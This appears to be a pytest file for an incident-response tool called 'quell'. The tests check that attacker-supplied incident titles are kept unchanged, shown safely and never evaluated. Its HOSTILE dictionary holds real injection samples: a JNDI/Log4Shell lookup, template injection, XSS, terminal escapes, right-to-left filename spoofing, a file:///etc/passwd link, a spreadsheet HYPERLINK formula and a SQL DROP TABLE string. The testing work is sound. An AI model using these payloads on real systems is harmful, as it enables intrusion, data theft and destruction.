"""What an attacker can write is data: kept unchanged, shown harmlessly, and evaluated nowhere."""

from __future__ import annotations

import pytest
from tests.fault_ground import (
    CONTAIN,
    Ground,
    activate,
    device_evidence,
    drive_until,
    has_ended,
    wait_until,
)

from quell.cli.text import UNSAFE

HOSTILE = {
    "template": "{{ 1 + 1 }} {% raw %} ${jndi:ldap://x.example} {{ incident.id }}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; &amp;amp;",
    "terminal": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J tab\tend",
    "right to left": "invoice\u202efdp.exe \u2066x\u2069 \u200f\u200b zero",
    "markup": "[bold red]x[/] [link=file:///etc/passwd]y[/link] :skull: %s %(a)s {0}",
    "formula": '=HYPERLINK("http://x.example") | \'; DROP TABLE incidents; --',
    "long": "A" * 3_000,
}

NOTE = """\
quell: 1
playbook: note_title
trigger: {incident: created}
when: incident.severity >= severity.low
steps:
  - id: note
    do: incident.comment
    with: {text: "seen: {{ incident.title }}"}
"""


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_title_is_mirrored_as_it_is(ground: Ground, kind: str) -> None:
    ground.detect(HOSTILE[kind], description=HOSTILE[kind], customTags=["x"])
    with ground.runtime() as runtime:
        ground.check_nothing_is_lost(runtime)
    (copy,) = ground.copies
    # a product's own limits apply: Sentinel takes 500 characters of a title
    assert HOSTILE[kind].startswith(copy.properties["title"].rstrip("…"))
    assert len(copy.properties["title"]) >= min(len(HOSTILE[kind]), 400)


def test_hostile_titles_reach_neither_the_terminal_nor_the_log(ground: Ground) -> None:
    # given
    for title in HOSTILE.values():
        ground.detect(title, description=title)
    # when
    done = ground.quell("sync")
    listed = ground.quell("incidents")
    # then
    assert done.code == listed.code == 0
    for text in (done.out, done.err, listed.out, listed.err):
        assert not [character for character in text if character != "\n" and _is_unsafe(character)]
    assert "[bold red]x[/]" in listed.out
    assert "{{ 1 + 1 }}" in listed.out
    assert "<script>alert(1)</script>" in listed.out
    for title in HOSTILE.values():
        assert title[:20] not in done.err


def test_what_a_comment_quotes_is_not_evaluated_again(ground: Ground) -> None:
    # given
    with ground.runtime() as runtime:
        ground.settle(runtime)
        activate(runtime, ground.folder, NOTE)
        originals = {kind: ground.detect(title) for kind, title in HOSTILE.items()}
        # when
        ground.clock.ahead = type(ground.clock.ahead)()
        runtime.run(drive_until(runtime, has_ended(runtime, len(HOSTILE))))
        ground.check_nothing_is_lost(runtime)
    # then
    for kind, original in originals.items():
        texts = [str(comment["comment"]) for comment in original.body["comments"]]
        assert len(texts) == 1, kind
        assert _plain(HOSTILE[kind])[:300] in _plain(texts[0]), kind


def test_names_that_an_attacker_chose_stay_out_of_the_log(ground: Ground) -> None:
    # given
    secret = "Zebra-Quartz-Person"
    machine = "7" * 40
    ground.tenant.devices.add_machine({"id": machine, "computerDnsName": f"{secret}.corp.example"})
    ground.own["guard"] = {"auto": ["device.isolate"]}
    ground.write_settings()
    with ground.runtime() as runtime:
        ground.settle(runtime)
        activate(runtime, ground.folder, CONTAIN)
    # when
    with ground.up():
        wait_until(lambda: "worker_up" in ground.log().read_text(), "it is up")
        evidence = [device_evidence(machine, f"{secret}.corp.example")]
        ground.detect(f"{secret} title", evidence=evidence, description=f"{secret} text")
        wait_until(lambda: ground.facts().effects.get("device.isolate") == 1, "the device is off")
        wait_until(lambda: len(ground.copies) == 1, "the copy")
    # then
    log = ground.log().read_text()
    assert secret not in log
    assert "Traceback" not in log


def _is_unsafe(character: str) -> bool:
    import unicodedata

    return unicodedata.category(character) in UNSAFE


def _plain(text: str) -> str:
    """Give the text without what products and quell escape, mark or leave out."""
    import html

    once = html.unescape(text) if "&lt;script" in text else text
    return "".join(character for character in once if character.isalnum())
